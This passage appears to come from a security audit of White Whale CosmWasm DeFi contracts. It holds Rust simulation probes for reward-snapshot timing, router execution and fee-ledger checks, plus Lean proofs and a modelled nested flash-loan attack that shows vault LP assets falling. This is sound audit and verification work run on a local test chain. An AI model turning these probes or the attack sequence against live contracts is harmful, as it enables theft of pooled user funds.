    let lpbal = |app: &App, who: &Addr| -> u128 { let b: cw20::BalanceResponse = app.wrap().query_wasm_smart(&lp, &cw20::Cw20QueryMsg::Balance { address: who.to_string() }).unwrap(); b.balance.u128() };
    let (ea0, eb0) = (bal(&app, &eve, "ua"), bal(&app, &eve, "ub"));
    // eve deposits 1 base unit of A and 1M whole tokens of B
    let r = prov(&mut app, &eve, 1, 1_000_000 * b18);
    println!("eve lopsided deposit ok={} LP minted {} (admin has {})", r.is_ok(), lpbal(&app, &eve), lpbal(&app, &admin));
    let l = lpbal(&app, &eve);
    app.execute_contract(eve.clone(), lp.clone(), &cw20::Cw20ExecuteMsg::Send { contract: pair.to_string(), amount: l.into(), msg: to_json_binary(&p::Cw20HookMsg::WithdrawLiquidity {}).unwrap() }, &[]).unwrap();
    let (ea1, eb1) = (bal(&app, &eve, "ua"), bal(&app, &eve, "ub"));
    println!("eve net: A {:+} whole tokens, B {:+} whole tokens", (ea1 as i128 - ea0 as i128) / a6 as i128, (eb1 as i128 - eb0 as i128) / b18 as i128);
}


fn probe_snapshot_timing() {
    println!("== P12 incentive: close before the epoch snapshot is taken (C13)");
    use white_whale_std::pool_network::incentive as i;
    let alice = Addr::unchecked("alice");
    let bob = Addr::unchecked("bob");
    let carol = Addr::unchecked("carol");
    let mut s = setup_incentive(1, vec![(alice.clone(), coins(10_000, "ulp")), (bob.clone(), coins(10_000, "ulp")), (carol.clone(), vec![coin(10_000_000, "ureward"), coin(10, "uwhale")])]);
    let inc = s.incentive.clone();
    for u in [&alice, &bob] {
        s.app.execute_contract(u.clone(), inc.clone(), &i::ExecuteMsg::OpenPosition { amount: 1000u128.into(), unbonding_duration: 86400, receiver: None }, &coins(1000, "ulp")).unwrap();
    }
    // flow of 1_000_000 over epochs 2..12
    s.app.execute_contract(carol.clone(), inc.clone(), &i::ExecuteMsg::OpenFlow { start_epoch: Some(2), end_epoch: Some(12), curve: None, flow_asset: Asset { info: nat("ureward"), amount: 1_000_000u128.into() }, flow_label: None }, &[coin(1_000_000, "ureward"), coin(0u128.max(1), "uwhale")]).map_err(|e| println!("open flow err {:#}", e)).ok();
    s.new_epoch(); // epoch 2
    // alice closes BEFORE anybody takes the snapshot for epoch 2
    let r = s.app.execute_contract(alice.clone(), inc.clone(), &i::ExecuteMsg::ClosePosition { unbonding_duration: 86400 }, &[]);
    println!("alice close in epoch 2 before snapshot: ok={}", r.is_ok());
    s.app.execute_contract(carol.clone(), inc.clone(), &i::ExecuteMsg::TakeGlobalWeightSnapshot {}, &[]).unwrap();
    for u in [&alice, &bob] {
        let sh: i::RewardsShareResponse = s.app.wrap().query_wasm_smart(&inc, &i::QueryMsg::CurrentEpochRewardsShare { address: u.to_string() }).unwrap();
        println!("{} share in epoch {}: {} (weight {} / global {})", u, sh.epoch_id, sh.share, sh.address_weight, sh.global_weight);
    }
    for u in [&alice, &bob] {
        let before = bal(&s.app, u, "ureward");
        let r = s.app.execute_contract(u.clone(), inc.clone(), &i::ExecuteMsg::Claim {}, &[]);
        println!("{} claim ok={} got {}", u, r.is_ok(), bal(&s.app, u, "ureward") - before);
    }
    // next epoch: alice has NO open position any more
    s.new_epoch();
    s.app.execute_contract(carol.clone(), inc.clone(), &i::ExecuteMsg::TakeGlobalWeightSnapshot {}, &[]).unwrap();
    let pos: i::PositionsResponse = s.app.wrap().query_wasm_smart(&inc, &i::QueryMsg::Positions { address: alice.to_string() }).unwrap();
    println!("epoch 3: alice positions {:?}", pos.positions);
    for u in [&alice, &bob] {
        let sh: i::RewardsShareResponse = s.app.wrap().query_wasm_smart(&inc, &i::QueryMsg::CurrentEpochRewardsShare { address: u.to_string() }).unwrap();
        let before = bal(&s.app, u, "ureward");
        let r = s.app.execute_contract(u.clone(), inc.clone(), &i::ExecuteMsg::Claim {}, &[]);
        println!("epoch 3: {} share {} (weight {} / global {}) claim ok={} got {}", u, sh.share, sh.address_weight, sh.global_weight, r.is_ok(), bal(&s.app, u, "ureward") - before);
    }
}


fn probe_router_revisit() {
    println!("== P13 router: simulation vs execution on a route that revisits a pair (C14)");
    let admin = Addr::unchecked("admin");
    let trader = Addr::unchecked("trader");
    let mut app = app(vec![(admin.clone(), vec![coin(10u128.pow(12), "uluna"), coin(10u128.pow(12), "uusd")]), (trader.clone(), vec![coin(10u128.pow(9), "uluna")])]);
    let pair_id = app.store_code(Box::new(ContractWrapper::new(terraswap_pair::contract::execute, terraswap_pair::contract::instantiate, terraswap_pair::contract::query).with_reply(terraswap_pair::contract::reply)));
    let token_id = app.store_code(Box::new(ContractWrapper::new(terraswap_token::contract::execute, terraswap_token::contract::instantiate, terraswap_token::contract::query)));
    let fac_id = app.store_code(Box::new(ContractWrapper::new(terraswap_factory::contract::execute, terraswap_factory::contract::instantiate, terraswap_factory::contract::query).with_reply(terraswap_factory::contract::reply)));
    let router_id = app.store_code(Box::new(ContractWrapper::new(terraswap_router::contract::execute, terraswap_router::contract::instantiate, terraswap_router::contract::query)));
    use white_whale_std::pool_network::{factory as f, router as r, pair as p};
    let fac = app.instantiate_contract(fac_id, admin.clone(), &f::InstantiateMsg { pair_code_id: pair_id, trio_code_id: pair_id, token_code_id: token_id, fee_collector_addr: "collector".into() }, &[], "fac", None).unwrap();
    for d in ["uluna", "uusd"] {
        app.execute_contract(admin.clone(), fac.clone(), &f::ExecuteMsg::AddNativeTokenDecimals { denom: d.into(), decimals: 6 }, &[coin(1, d)]).map_err(|e| println!("add decimals: {:#}", e)).ok();
    }
    let fee = |n: u64| Fee { share: Decimal::permille(n) };
    app.execute_contract(admin.clone(), fac.clone(), &f::ExecuteMsg::CreatePair { asset_infos: [nat("uluna"), nat("uusd")], pool_fees: PoolFee { protocol_fee: fee(1), swap_fee: fee(2), burn_fee: fee(0) }, pair_type: PairType::ConstantProduct, token_factory_lp: false }, &[]).unwrap();
    let pi: white_whale_std::pool_network::asset::PairInfo = app.wrap().query_wasm_smart(&fac, &f::QueryMsg::Pair { asset_infos: [nat("uusd"), nat("uluna")] }).unwrap();
    let pair = Addr::unchecked(pi.contract_addr);
    app.execute_contract(admin.clone(), pair.clone(), &p::ExecuteMsg::ProvideLiquidity { assets: [Asset { info: nat("uluna"), amount: 1_000_000_000u128.into() }, Asset { info: nat("uusd"), amount: 1_000_000_000u128.into() }], slippage_tolerance: None, receiver: None }, &[coin(1_000_000_000, "uluna"), coin(1_000_000_000, "uusd")]).unwrap();
    let router = app.instantiate_contract(router_id, admin.clone(), &r::InstantiateMsg { terraswap_factory: fac.to_string() }, &[], "router", Some(admin.to_string())).unwrap();
    let ops = vec![r::SwapOperation::TerraSwap { offer_asset_info: nat("uluna"), ask_asset_info: nat("uusd") }, r::SwapOperation::TerraSwap { offer_asset_info: nat("uusd"), ask_asset_info: nat("uluna") }];
    let offer = 100_000_000u128;
    let sim: r::SimulateSwapOperationsResponse = app.wrap().query_wasm_smart(&router, &r::QueryMsg::SimulateSwapOperations { offer_amount: offer.into(), operations: ops.clone() }).unwrap();
    let before = bal(&app, &trader, "uluna");
    app.execute_contract(trader.clone(), router.clone(), &r::ExecuteMsg::ExecuteSwapOperations { operations: ops, minimum_receive: None, to: None, max_spread: Some(Decimal::percent(50)) }, &coins(offer, "uluna")).unwrap();
    let got = bal(&app, &trader, "uluna") + offer - before;
    println!("simulated {} ; executed {}", sim.amount, got);
}


fn probe_pipeline() {
    println!("== P14 fee pipeline smoke run (C09/C10/C20)");
    use white_whale_std::fee_collector as fc;
    use white_whale_std::fee_distributor as fd;
    use white_whale_std::pool_network::{factory as f, pair as p, router as r};
    use white_whale_std::whale_lair as wl;
    let admin = Addr::unchecked("admin");
    let users = [Addr::unchecked("alice"), Addr::unchecked("bob"), Addr::unchecked("carol")];
    let mut bals = vec![(admin.clone(), vec![coin(10u128.pow(13), "uwhale"), coin(10u128.pow(13), "uusdc"), coin(10u128.pow(9), "bwhale")])];
    for u in &users { bals.push((u.clone(), vec![coin(10u128.pow(9), "bwhale"), coin(10u128.pow(10), "uwhale"), coin(10u128.pow(10), "uusdc")])); }
    let mut app = app(bals);
    let cw = |e, i, q| Box::new(ContractWrapper::new(e, i, q));
    let pair_id = app.store_code(Box::new(ContractWrapper::new(terraswap_pair::contract::execute, terraswap_pair::contract::instantiate, terraswap_pair::contract::query).with_reply(terraswap_pair::contract::reply)));
    let token_id = app.store_code(Box::new(ContractWrapper::new(terraswap_token::contract::execute, terraswap_token::contract::instantiate, terraswap_token::contract::query)));
    let fac_id = app.store_code(Box::new(ContractWrapper::new(terraswap_factory::contract::execute, terraswap_factory::contract::instantiate, terraswap_factory::contract::query).with_reply(terraswap_factory::contract::reply)));
    let router_id = app.store_code(Box::new(ContractWrapper::new(terraswap_router::contract::execute, terraswap_router::contract::instantiate, terraswap_router::contract::query)));
    let vfac_id = app.store_code(Box::new(ContractWrapper::new(vault_factory::contract::execute, vault_factory::contract::instantiate, vault_factory::contract::query).with_reply(vault_factory::reply::reply)));
    let vault_id = app.store_code(Box::new(ContractWrapper::new(vault::contract::execute, vault::contract::instantiate, vault::contract::query).with_reply(vault::reply::reply)));
    let col_id = app.store_code(Box::new(ContractWrapper::new(fee_collector::contract::execute, fee_collector::contract::instantiate, fee_collector::contract::query).with_reply(fee_collector::contract::reply)));
    let dist_id = app.store_code(Box::new(ContractWrapper::new(fee_distributor::contract::execute, fee_distributor::contract::instantiate, fee_distributor::contract::query).with_reply(fee_distributor::contract::reply)));
    let lair_id = app.store_code(cw(whale_lair::contract::execute, whale_lair::contract::instantiate, whale_lair::contract::query));
    let _ = cw;
    let col = app.instantiate_contract(col_id, admin.clone(), &fc::InstantiateMsg {}, &[], "col", None).unwrap();
    let lair = app.instantiate_contract(lair_id, admin.clone(), &wl::InstantiateMsg { unbonding_period: 1_000_000_000u64.into(), growth_rate: Decimal::zero(), bonding_assets: vec![nat("bwhale")] }, &[], "lair", None).unwrap();
    let genesis = app.block_info().time.plus_seconds(100);
    let day = 86_400_000_000_000u64;
    let dist = app.instantiate_contract(dist_id, admin.clone(), &fd::InstantiateMsg { bonding_contract_addr: lair.to_string(), fee_collector_addr: col.to_string(), grace_period: 2u64.into(), epoch_config: white_whale_std::epoch_manager::epoch_manager::EpochConfig { duration: day.into(), genesis_epoch: genesis.nanos().into() }, distribution_asset: nat("uwhale") }, &[], "dist", None).unwrap();
    app.execute_contract(admin.clone(), lair.clone(), &wl::ExecuteMsg::UpdateConfig { owner: None, unbonding_period: None, growth_rate: None, fee_distributor_addr: Some(dist.to_string()) }, &[]).unwrap();
    let fac = app.instantiate_contract(fac_id, admin.clone(), &f::InstantiateMsg { pair_code_id: pair_id, trio_code_id: pair_id, token_code_id: token_id, fee_collector_addr: col.to_string() }, &[], "fac", None).unwrap();
    for d in ["uwhale", "uusdc"] { app.execute_contract(admin.clone(), fac.clone(), &f::ExecuteMsg::AddNativeTokenDecimals { denom: d.into(), decimals: 6 }, &[coin(1, d)]).unwrap(); }
    let fee = |n: u64| Fee { share: Decimal::permille(n) };
    app.execute_contract(admin.clone(), fac.clone(), &f::ExecuteMsg::CreatePair { asset_infos: [nat("uwhale"), nat("uusdc")], pool_fees: PoolFee { protocol_fee: fee(10), swap_fee: fee(2), burn_fee: fee(0) }, pair_type: PairType::ConstantProduct, token_factory_lp: false }, &[]).unwrap();
    let pi: white_whale_std::pool_network::asset::PairInfo = app.wrap().query_wasm_smart(&fac, &f::QueryMsg::Pair { asset_infos: [nat("uusdc"), nat("uwhale")] }).unwrap();
    let pair = Addr::unchecked(pi.contract_addr);
    app.execute_contract(admin.clone(), pair.clone(), &p::ExecuteMsg::ProvideLiquidity { assets: [Asset { info: nat("uwhale"), amount: 10u128.pow(12).into() }, Asset { info: nat("uusdc"), amount: 10u128.pow(12).into() }], slippage_tolerance: None, receiver: None }, &[coin(10u128.pow(12), "uwhale"), coin(10u128.pow(12), "uusdc")]).unwrap();
    let router = app.instantiate_contract(router_id, admin.clone(), &r::InstantiateMsg { terraswap_factory: fac.to_string() }, &[], "router", Some(admin.to_string())).unwrap();
    app.execute_contract(admin.clone(), router.clone(), &r::ExecuteMsg::AddSwapRoutes { swap_routes: vec![r::SwapRoute { offer_asset_info: nat("uusdc"), ask_asset_info: nat("uwhale"), swap_operations: vec![r::SwapOperation::TerraSwap { offer_asset_info: nat("uusdc"), ask_asset_info: nat("uwhale") }] }] }, &[]).unwrap();
    let vfac = app.instantiate_contract(vfac_id, admin.clone(), &white_whale_std::vault_network::vault_factory::InstantiateMsg { owner: admin.to_string(), vault_id, token_id, fee_collector_addr: col.to_string() }, &[], "vfac", None).unwrap();
    app.execute_contract(admin.clone(), vfac.clone(), &white_whale_std::vault_network::vault_factory::ExecuteMsg::CreateVault { asset_info: nat("uwhale"), fees: VaultFee { protocol_fee: fee(10), flash_loan_fee: fee(1), burn_fee: fee(0) }, token_factory_lp: false }, &[]).unwrap();
    app.execute_contract(admin.clone(), col.clone(), &fc::ExecuteMsg::UpdateConfig { owner: None, pool_router: Some(router.to_string()), fee_distributor: Some(dist.to_string()), pool_factory: Some(fac.to_string()), vault_factory: Some(vfac.to_string()), take_rate: Some(Decimal::percent(10)), take_rate_dao_address: Some("dao".into()), is_take_rate_active: Some(true) }, &[]).unwrap();

    let dao = Addr::unchecked("dao");
    let epoch = |app: &App, id: u64| -> fd::Epoch { let e: fd::EpochResponse = app.wrap().query_wasm_smart(&dist, &fd::QueryMsg::Epoch { id: id.into() }).unwrap(); e.epoch };
    let amt = |v: &Vec<Asset>| -> u128 { v.iter().map(|a| a.amount.u128()).sum() };
    // early attempt (before genesis)
    let r0 = app.execute_contract(users[0].clone(), dist.clone(), &fd::ExecuteMsg::NewEpoch {}, &[]);
    println!("NewEpoch before genesis ok={}", r0.is_ok());
    app.update_block(|b| { b.time = genesis; b.height += 1; });
    // bond before first epoch
    for (i, u) in users.iter().enumerate() {
        let a = 1000u128 * (i as u128 + 1);
        app.execute_contract(u.clone(), lair.clone(), &wl::ExecuteMsg::Bond { asset: Asset { info: nat("bwhale"), amount: a.into() } }, &coins(a, "bwhale")).map_err(|e| println!("bond err {:#}", e)).ok();
    }
    let mut claimed_total = 0u128; let mut inflow_total = 0u128; let mut dao_total = 0u128;
    for round in 0..6u64 {
        // trading generates protocol fees in both denoms
        app.execute_contract(users[0].clone(), pair.clone(), &p::ExecuteMsg::Swap { offer_asset: Asset { info: nat("uusdc"), amount: 50_000_000u128.into() }, belief_price: None, max_spread: Some(Decimal::percent(50)), to: None }, &coins(50_000_000, "uusdc")).unwrap();
        app.execute_contract(users[1].clone(), pair.clone(), &p::ExecuteMsg::Swap { offer_asset: Asset { info: nat("uwhale"), amount: 30_000_000u128.into() }, belief_price: None, max_spread: Some(Decimal::percent(50)), to: None }, &coins(30_000_000, "uwhale")).unwrap();
        let (d0, c0, o0) = (bal(&app, &dist, "uwhale"), bal(&app, &col, "uwhale"), bal(&app, &dao, "uwhale"));
        let r1 = app.execute_contract(users[2].clone(), dist.clone(), &fd::ExecuteMsg::NewEpoch {}, &[]);
        let r2 = app.execute_contract(users[2].clone(), dist.clone(), &fd::ExecuteMsg::NewEpoch {}, &[]);
        let cur: fd::EpochResponse = app.wrap().query_wasm_smart(&dist, &fd::QueryMsg::CurrentEpoch {}).unwrap();
        let (d1, c1, o1) = (bal(&app, &dist, "uwhale"), bal(&app, &col, "uwhale"), bal(&app, &dao, "uwhale"));
        inflow_total += d1 - d0; dao_total += o1 - o0;
        println!("round {} NewEpoch ok={} second-in-same-block ok={} -> epoch id {} start+{}d total {} avail {} | dist +{} dao +{} collector uwhale {}->{} usdc {}", round, r1.is_ok(), r2.is_ok(), cur.epoch.id, (cur.epoch.start_time.nanos() - genesis.nanos()) / day, amt(&cur.epoch.total), amt(&cur.epoch.available), d1 - d0, o1 - o0, c0, c1, bal(&app, &col, "uusdc"));
        if let Err(e) = &r1 { println!("   err {:#}", e); }
        // claims: rotate who claims
        for (i, u) in users.iter().enumerate() {
            if (round as usize + i) % 2 == 0 {
                let b0 = bal(&app, u, "uwhale");
                let rc = app.execute_contract(u.clone(), dist.clone(), &fd::ExecuteMsg::Claim {}, &[]);
                let got = bal(&app, u, "uwhale") - b0; claimed_total += got;
                println!("   {} claim ok={} got {}", u, rc.is_ok(), got);
            }
        }
        // ledger check over all epochs
        let mut sum_avail = 0u128;
        for id in 1..=cur.epoch.id.u64() { let e = epoch(&app, id); sum_avail += amt(&e.available); let ok = e.available.is_empty() || amt(&e.claimed) + amt(&e.available) == amt(&e.total); if !ok { println!("   LEDGER MISMATCH epoch {}: total {} avail {} claimed {}", id, amt(&e.total), amt(&e.available), amt(&e.claimed)); } }
        println!("   distributor holds {} ; sum available {} ; inflow {} claimed {} dao {}", bal(&app, &dist, "uwhale"), sum_avail, inflow_total, claimed_total, dao_total);
        app.update_block(|b| { b.time = b.time.plus_nanos(day); b.height += 1; });
    }
}

fn main() {
    let which: Vec<String> = std::env::args().skip(1).collect();
    let all = which.is_empty();
    let want = |n: &str| all || which.iter().any(|w| w == n);
    if want("p1") { probe_nested_loan(); }
    if want("p2") { probe_swap_underflow(); }
    if want("p3") { probe_subthreshold_collect(); }
    if want("p4") { probe_lair_same_block(); }
    if want("p5") { probe_flows(); }
    if want("p6") { probe_weights(); }
    if want("p9") { probe_trio_ramp(); }
    if want("p10") { probe_router_min_receive_auth(); }
    if want("p11") { probe_stable_lp_decimals(); }
    if want("p12") { probe_snapshot_timing(); }
    if want("p13") { probe_router_revisit(); }
    if want("p14") { probe_pipeline(); }
    if want("p7") { probe_vault_burn_fee_factory_asset(); }
    if want("p8") { probe_stable_amp_zero(); }
}
