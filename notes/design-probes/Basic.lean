import Mathlib.Tactic.Ring
import Mathlib.Tactic.Linarith
import Mathlib.Tactic.Positivity

-- vault deposit: mint = floor(d*S/T); share price (T/S) does not decrease
theorem deposit_price_mono (T S d : Nat) (hT : 0 < T) :
    T * (S + d * S / T) ≤ (T + d) * S := by
  have h := Nat.div_mul_le_self (d * S) T
  nlinarith [h]

-- withdraw: payout = floor(T * floor(a*E/S) / E) ≤ T*a/S  (E = 10^18)
theorem withdraw_le (T S a E : Nat) (hS : 0 < S) (hE : 0 < E) :
    (T * (a * E / S) / E) * S ≤ T * a := by
  have h1 : a * E / S * S ≤ a * E := Nat.div_mul_le_self _ _
  have h2 : T * (a * E / S) / E * E ≤ T * (a * E / S) := Nat.div_mul_le_self _ _
  have : (T * (a * E / S) / E) * S * E ≤ T * a * E := by nlinarith [h1, h2]
  exact Nat.le_of_mul_le_mul_right this hE

-- constant product: k does not decrease on swap
theorem cp_k_mono (x y dx : Nat) (hx : 0 < x) :
    x * y ≤ (x + dx) * (y - y * dx / (x + dx)) := by
  have h := Nat.div_mul_le_self (y * dx) (x + dx)
  have hle : y * dx / (x + dx) ≤ y := by
    apply Nat.div_le_of_le_mul
    nlinarith
  obtain ⟨k, hk⟩ : ∃ k, y = y * dx / (x + dx) + k := ⟨y - y * dx / (x + dx), by omega⟩
  have : y - y * dx / (x + dx) = k := by omega
  rw [this]
  nlinarith [h, hk]
