import Feas.Vault
namespace V

-- the loan counter is restored by every successful action / action list (any tree depth)
mutual
theorem run_ctr (fs : Fees) : ∀ (a : Act) (s s' : St), run fs s a = some s' → s'.ctr = s.ctr
  | .pay n, s, s', h => by
      simp only [run] at h; split at h <;> simp at h; subst h; rfl
  | .withdraw lp, s, s', h => by
      simp only [run] at h; split at h <;> simp at h; subst h; rfl
  | .collect, s, s', h => by
      simp only [run] at h; simp at h; subst h; rfl
  | .loan n cb, s, s', h => by
      simp only [run] at h
      split at h
      · split at h
        · simp at h
        · rename_i s1 hs1
          have ih := runs_ctr fs cb _ _ hs1
          split at h
          · simp at h; subst h; simp [ih]
          · simp at h
      · simp at h
theorem runs_ctr (fs : Fees) : ∀ (as : List Act) (s s' : St), runs fs s as = some s' → s'.ctr = s.ctr
  | [], s, s', h => by simp only [runs] at h; simp at h; subst h; rfl
  | a :: as, s, s', h => by
      simp only [runs] at h
      split at h
      · simp at h
      · rename_i s1 hs1
        have h1 := run_ctr fs a _ _ hs1
        have h2 := runs_ctr fs as _ _ h
        omega
end
end V
