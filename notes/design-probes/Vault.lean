-- import-free model sketch: vault with adversarial callback trees
namespace V

structure Fees where
  p : Nat  -- protocol fee share atomics (18 dp)
  f : Nat
  b : Nat
deriving Repr

def E18 : Nat := 1000000000000000000
def fee (share amt : Nat) : Nat := amt * share / E18

structure St where
  bal : Nat      -- vault balance of asset
  pend : Nat     -- pending protocol fees
  sup : Nat      -- LP supply
  ctr : Nat      -- loan counter
  adv : Nat      -- adversary balance
  advLp : Nat
deriving Repr, DecidableEq

inductive Act where
  | pay (amt : Nat)
  | loan (amt : Nat) (cb : List Act)
  | withdraw (lp : Nat)
  | collect
deriving Repr

mutual
def run (fs : Fees) : St → Act → Option St
  | s, .pay a => if a ≤ s.adv then some { s with adv := s.adv - a, bal := s.bal + a } else none
  | s, .withdraw lp =>
      if lp ≤ s.advLp ∧ 0 < s.sup then
        let out := (s.bal - s.pend) * (lp * E18 / s.sup) / E18
        some { s with advLp := s.advLp - lp, sup := s.sup - lp, bal := s.bal - out, adv := s.adv + out }
      else none
  | s, .collect => some { s with bal := s.bal - s.pend, pend := 0 }
  | s, .loan a cb =>
      if a ≤ s.bal then
        let old := s.bal
        match runs fs { s with ctr := s.ctr + 1, bal := s.bal - a, adv := s.adv + a } cb with
        | none => none
        | some s' =>
          let pf := fee fs.p a; let ff := fee fs.f a; let bf := fee fs.b a
          if old + pf + ff + bf ≤ s'.bal then
            some { s' with pend := s'.pend + pf, ctr := s'.ctr - 1, bal := s'.bal - bf }
          else none
      else none
def runs (fs : Fees) : St → List Act → Option St
  | s, [] => some s
  | s, a :: as => match run fs s a with
      | none => none
      | some s' => runs fs s' as
end

def s0 : St := { bal := 1000000, pend := 0, sup := 1000000, ctr := 0, adv := 1000, advLp := 0 }
def fs : Fees := { p := 10000000000000000, f := 0, b := 0 }
def attack : Act := .loan 10000 [ .loan 990000 [ .pay 999900 ], .pay 200 ]
#eval run fs s0 attack
-- witness: LP assets (bal - pend) strictly decrease
theorem nested_witness : (run fs s0 attack).map (fun s => s.bal - s.pend) = some 990100 := by decide
end V
