import Mathlib.Tactic.Ring
import Mathlib.Tactic.Linarith
import Mathlib.Tactic.Positivity
import Mathlib.Tactic.Zify
import Mathlib.Tactic.IntervalCases

/-- y-solver residual: from the termination test alone.
    One Newton step `y' = (y*y + c) / g`, `g = 2y + b - d > 0`, stop when |y' - y| ≤ 1.
    Then the returned y' is the integer root of  F(t) = t² + (b-d)t - c  up to one unit. -/
theorem y_residual (y y' b c d g : ℤ) (hg : 0 < g) (hgdef : g = 2 * y + b - d)
    (hlo : y' * g ≤ y * y + c) (hhi : y * y + c < (y' + 1) * g)
    (hδ : |y' - y| ≤ 1) :
    y' * y' + (b - d) * y' - c ≤ 1 ∧ -g < y' * y' + (b - d) * y' - c := by
  have h1 : -1 ≤ y' - y ∧ y' - y ≤ 1 := abs_le.mp hδ
  obtain ⟨k, hk⟩ : ∃ k, y' - y = k := ⟨_, rfl⟩
  have hy : y = y' - k := by linarith
  have hk2 : k * k ≤ 1 := by
    have : -1 ≤ k ∧ k ≤ 1 := by constructor <;> linarith [h1.1, h1.2]
    nlinarith [this.1, this.2]
  subst hgdef
  subst hy
  constructor
  · nlinarith [hlo, hk2]
  · nlinarith [hhi, hk2, sq_nonneg k]

/-- constant-product provide: share = min(d0*S/R0, d1*S/R1); geometric mean per LP does not fall -/
theorem provide_lp_value (R0 R1 S d0 d1 : Nat) (h0 : 0 < R0) (h1 : 0 < R1) :
    let sh := min (d0 * S / R0) (d1 * S / R1)
    R0 * R1 * (S + sh) ^ 2 ≤ (R0 + d0) * (R1 + d1) * S ^ 2 := by
  intro sh
  have a0 : sh * R0 ≤ d0 * S := le_trans (Nat.mul_le_mul_right _ (min_le_left _ _)) (Nat.div_mul_le_self _ _)
  have a1 : sh * R1 ≤ d1 * S := le_trans (Nat.mul_le_mul_right _ (min_le_right _ _)) (Nat.div_mul_le_self _ _)
  have b0 : (S + sh) * R0 ≤ (R0 + d0) * S := by nlinarith
  have b1 : (S + sh) * R1 ≤ (R1 + d1) * S := by nlinarith
  calc R0 * R1 * (S + sh) ^ 2 = ((S + sh) * R0) * ((S + sh) * R1) := by ring
    _ ≤ ((R0 + d0) * S) * ((R1 + d1) * S) := Nat.mul_le_mul b0 b1
    _ = (R0 + d0) * (R1 + d1) * S ^ 2 := by ring

/-- there-and-back on a constant product pool never returns more than was put in (gross amounts) -/
theorem round_trip (x y dx g r sf : Nat) (hx : 0 < x) (hy : 0 < y) (hdx : 0 < dx)
    (hg : g = y * dx / (x + dx)) (hr : r ≤ g) (hsf : sf ≤ g) (hr0 : 0 < r) :
    (x + dx) * r / (y - g + sf + r) ≤ dx := by
  have hgle : g * (x + dx) ≤ y * dx := by rw [hg]; exact Nat.div_mul_le_self _ _
  have hgy : g ≤ y := by
    have : g * (x + dx) ≤ y * (x + dx) := le_trans hgle (Nat.mul_le_mul_left _ (by omega))
    exact Nat.le_of_mul_le_mul_right this (by omega)
  apply Nat.div_le_of_le_mul
  -- (x+dx) * r ≤ (y - g + sf + r) * dx
  obtain ⟨k, hk⟩ : ∃ k, y = g + k := ⟨y - g, by omega⟩
  have : y - g + sf + r = k + sf + r := by omega
  rw [this]
  subst hk
  nlinarith [hgle, hr, Nat.zero_le sf, Nat.zero_le k]
