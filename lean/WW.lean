import WW.Cw.Arith
