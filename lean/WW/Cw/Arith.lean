/-
  Integer-level semantics of the cosmwasm_std 1.5 number types used by the contracts.
  Import-free (core Lean only) so that the driver links as a native executable.

  A model function returns `Res α`:
    ok a   – the Rust returned `Ok(a)`
    err    – the Rust returned `Err(_)`   (checked op, try_into, explicit error)
    panic  – the Rust panicked             (unchecked op, unwrap, from_ratio overflow, ÷0)
  Both `err` and `panic` abort the transaction; they are distinguished because C02 is about it
  and because the correspondence compares them (catch_unwind in the harness).
-/
namespace WW

inductive Res (α : Type) where
  | ok (a : α)
  | err
  | panic
deriving Repr, DecidableEq

namespace Res
@[inline] def bind {α β : Type} (x : Res α) (f : α → Res β) : Res β :=
  match x with
  | ok a => f a
  | err => err
  | panic => panic

instance : Monad Res where
  pure := ok
  bind := bind

def isOk {α : Type} : Res α → Bool
  | ok _ => true
  | _ => false

def toOption {α : Type} : Res α → Option α
  | ok a => some a
  | _ => none

@[simp] theorem bind_ok {α β : Type} (a : α) (f : α → Res β) : (ok a >>= f) = f a := rfl
@[simp] theorem bind_err {α β : Type} (f : α → Res β) : ((err : Res α) >>= f) = err := rfl
@[simp] theorem bind_panic {α β : Type} (f : α → Res β) : ((panic : Res α) >>= f) = panic := rfl
@[simp] theorem pure_eq {α : Type} (a : α) : (pure a : Res α) = ok a := rfl
end Res

/-- 10^18, `Decimal::DECIMAL_FRACTIONAL` and `Decimal256::DECIMAL_FRACTIONAL`. -/
def E18 : Nat := 1000000000000000000
def U64MAX : Nat := 2 ^ 64 - 1
def U128MAX : Nat := 2 ^ 128 - 1
def U256MAX : Nat := 2 ^ 256 - 1
def U512MAX : Nat := 2 ^ 512 - 1

theorem E18_pos : 0 < E18 := by decide

/-- guard that maps to `Err` -/
@[inline] def guardErr (c : Bool) : Res Unit := if c then .ok () else .err
/-- guard that maps to a panic -/
@[inline] def guardPanic (c : Bool) : Res Unit := if c then .ok () else .panic

/-- `a.checked_add(b)?` at width `max` -/
@[inline] def cadd (max a b : Nat) : Res Nat := if a + b ≤ max then .ok (a + b) else .err
/-- `a.checked_sub(b)?` -/
@[inline] def csub (a b : Nat) : Res Nat := if b ≤ a then .ok (a - b) else .err
/-- `a.checked_mul(b)?` -/
@[inline] def cmul (max a b : Nat) : Res Nat := if a * b ≤ max then .ok (a * b) else .err
/-- `a.checked_div(b)?` -/
@[inline] def cdiv (a b : Nat) : Res Nat := if b = 0 then .err else .ok (a / b)
/-- unchecked `a + b` (panics on overflow; overflow-checks are on in the release profile) -/
@[inline] def padd (max a b : Nat) : Res Nat := if a + b ≤ max then .ok (a + b) else .panic
/-- unchecked `a - b` -/
@[inline] def psub (a b : Nat) : Res Nat := if b ≤ a then .ok (a - b) else .panic
/-- unchecked `a * b` -/
@[inline] def pmul (max a b : Nat) : Res Nat := if a * b ≤ max then .ok (a * b) else .panic

/-- `Uint::multiply_ratio(n, d)`: full-width product, floor division, panics on ÷0 / overflow -/
@[inline] def mulRatioP (max a n d : Nat) : Res Nat :=
  if d = 0 then .panic else if a * n / d ≤ max then .ok (a * n / d) else .panic
/-- `Uint::checked_multiply_ratio(n, d)?` -/
@[inline] def mulRatioC (max a n d : Nat) : Res Nat :=
  if d = 0 then .err else if a * n / d ≤ max then .ok (a * n / d) else .err

/-- `Decimal256::from_ratio(n, d)` as atomics; panics on ÷0 / overflow -/
@[inline] def dec256FromRatio (n d : Nat) : Res Nat := mulRatioP U256MAX n E18 d
/-- `Decimal::from_ratio(n, d)` (128-bit atomics) -/
@[inline] def dec128FromRatio (n d : Nat) : Res Nat := mulRatioP U128MAX n E18 d

/-- `Uint256 * Decimal256` (= mul_floor; panics on overflow) -/
@[inline] def u256MulDec (a dec : Nat) : Res Nat :=
  if a * dec / E18 ≤ U256MAX then .ok (a * dec / E18) else .panic
/-- `Uint128 * Decimal` -/
@[inline] def u128MulDec (a dec : Nat) : Res Nat :=
  if a * dec / E18 ≤ U128MAX then .ok (a * dec / E18) else .panic

/-- `Decimal::inv()` on atomics: `None` for zero, else `⌊10^36 / a⌋` (always fits 128 bits) -/
@[inline] def decInv (a : Nat) : Option Nat := if a = 0 then none else some (E18 * E18 / a)
/-- `Decimal256 * Decimal256` on atomics (full-width product, floor; panics on overflow) -/
@[inline] def dec256Mul (a b : Nat) : Res Nat :=
